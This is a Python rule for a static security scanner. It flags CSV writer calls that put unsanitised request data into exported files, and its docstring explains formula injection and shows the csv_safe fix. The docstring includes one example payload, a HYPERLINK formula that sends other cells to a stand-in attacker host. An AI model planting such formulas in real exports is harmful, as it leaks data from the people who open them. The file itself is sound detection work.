"""FHZ004: cells of CSV files that begin a formula."""

from __future__ import annotations

from collections.abc import Iterator

from ....audit.composition.sinks import requested, shown
from ....audit.finding import Confidence, Severity
from ....audit.rule import Hit, rule
from ....audit.snapshot import Snapshot

_WRITING = {
    f"csv.{writer}().{method}": (0, "row" if method == "writerow" else "rows")
    for writer in ("writer", "DictWriter")
    for method in ("writerow", "writerows")
}


@rule(
    code="FHZ004",
    severity=Severity.LOW,
    confidence=Confidence.HIGH,
    cwe=(1236,),
    owasp=("A03",),
    asvs=("1.2.10",),
)
def formula_cells(snapshot: Snapshot) -> Iterator[Hit]:
    """Data of the request is written into a CSV file as it came.

    ## What it does
    Reports `writerow` and `writerows` of the module `csv` with data of the request that did not go through `csv_safe`.

    ## Why is this bad
    Spreadsheets run what begins with `=`, `+`, `-` or `@`: `=HYPERLINK("https://evil.example/?"&A1)` in a name
    sends the other cells away when somebody of the office opens the export and clicks.

    ## Example
    ```python
    writer.writerow([request.form["name"], request.form["city"]])
    ```

    ## Use instead
    ```python
    writer.writerow([csv_safe(request.form["name"]), csv_safe(request.form["city"])])
    ```

    ## References
    - [CWE-1236: Improper Neutralization of Formula Elements in a CSV File](https://cwe.mitre.org/data/definitions/1236.html)
    - [OWASP: CSV Injection](https://owasp.org/www-community/attacks/CSV_Injection)
    """
    for call, _, _ in requested(snapshot, _WRITING):
        yield Hit(
            message=f"{shown(call)} writes data of the request into a CSV file, formulas included.",
            fix="Put each cell into csv_safe().",
            location=call.location,
        )
